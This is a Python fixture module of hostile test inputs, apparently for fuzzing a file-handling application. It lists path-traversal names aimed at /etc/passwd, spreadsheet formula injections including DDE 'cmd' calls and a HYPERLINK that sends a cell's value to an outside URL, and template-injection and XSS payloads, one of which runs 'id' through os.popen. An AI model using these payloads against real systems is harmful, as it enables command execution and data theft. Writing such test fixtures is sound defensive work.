"""Names, cells and payloads as somebody would write them who means harm, or as bad luck does."""

from __future__ import annotations

from itertools import product

_WAYS = ("../", "..\\", "..;/", "/", "\\", "C:\\", "\\\\host\\share\\", "file:///", "~/",
         "./../", "%2e%2e%2f", "..%2f", "..%c0%af", "．．／", "..∕", "....//", "a/../../",
         "\u202e/..")  # fmt: skip
_AIMS = ("outside.txt", "outside/2020-01-01T1200.mp4", "etc/passwd", "letter.html")
_ODD = (
    "CON", "con.txt", "PRN", "AUX", "NUL", "nul.mp4", "COM1", "LPT9.csv", "CLOCK$", "..", ".",
    "...", " ", "a ", "a.", "a. .", ".hidden", "-rf", "--out", "*", "?", "a:b", "a|b", "<a>",
    '"a"', "'a'", "$(id)", "`id`", "${HOME}", "a;b", "a&b", "a\nb", "a\rb", "a\tb", "a\x1b[2Jb",
    "a\x7fb",
    "\x01", "a\u202eb", "\u200b", "\ufeffa", "a\u0301", "\u00e1", "\u212a", "K", "k", "ﬁle",
    "file", "FILE",
    "File", "straße", "STRASSE", "ı", "I", "i", "İ", "x" * 240, "é" * 120, "𝒳" * 60, "\ud83d\ude00",
    ".avgrights", ".avgrights ", "store.json", "intent.json", "evidence.jsonl", "inhoud.zip",
    "manifest.json", "data.json", "password.txt", "letter.html", "package.zip", "{camera}", "%s",
    "%n%n", "{0}", "{{7*7}}", "NULL", "None", "null", "undefined", "true", "0", "-1", "1e309",
    "NaN", "﷽", "⁄etc⁄passwd", "a\u2028b", "a\u2029b", "\u202egpj.exe", 
    "a" + "\u0300" * 80,
)  # fmt: skip

#: Paths that lead elsewhere, and names that no system or not every system takes.
NAMES: tuple[str, ...] = tuple(dict.fromkeys((
    *(way * times + aim for way, aim, times in product(_WAYS, _AIMS, (1, 3))), *_ODD,
)))  # fmt: skip

_STARTS = "=+-@\t\r\n＝＋－＠﹢﹣"
_REST = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.nl?"&A1)', "SUM(A1:A9)",
         "IMPORTXML(CONCAT(\"//\"),1)", "2+5+cmd|' /C notepad'!A0", "", "=", "-1")  # fmt: skip

#: Texts that a spreadsheet may take for a formula, each start with each rest.
FORMULAS = tuple(start + rest for start, rest in product(_STARTS, _REST))

#: Template languages, HTML and Typst; what is evaluated says 1337, or shows a file.
PAYLOADS = (
    "{{ 7 * 191 }}", "{{7*191}}", "{% print(7*191) %}", "{%print(7*191)%}", "${7*191}", "#{7*191}",
    "<%= 7*191 %>", "*{7*191}", "@(7*191)", "[[${7*191}]]", "{{= 7*191 }}", "{{{7*191}}}",
    "{{ ''.__class__.__mro__ }}", "{{ self.__init__.__globals__ }}", "{{ config }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__ }}",
    "{% for x in range(191) %}{{ 7*191 }}{% endfor %}", "{% set x = 7*191 %}{{ x }}",
    "{% include '/etc/passwd' %}", "{% extends 'page.html' %}", "{% import 'os' as os %}",
    "{{ report.register }}", "{{ copy.register }}", "{{ ''|attr('__class__') }}",
    "<script>document.write(7*191)</script>", "<img src=x onerror=alert(7*191)>",
    "\"><svg onload=alert(7*191)>", "#eval(\"7*191\")", "#read(\"/etc/passwd\")",
    "</p></body><h1>x</h1>", "&lt;script&gt;", "{{ undefined_name.x }}", "{% raw %}{{ 7*191 }}",
)  # fmt: skip

assert len(NAMES) >= 200 and len(FORMULAS) >= 100 and len(PAYLOADS) >= 30
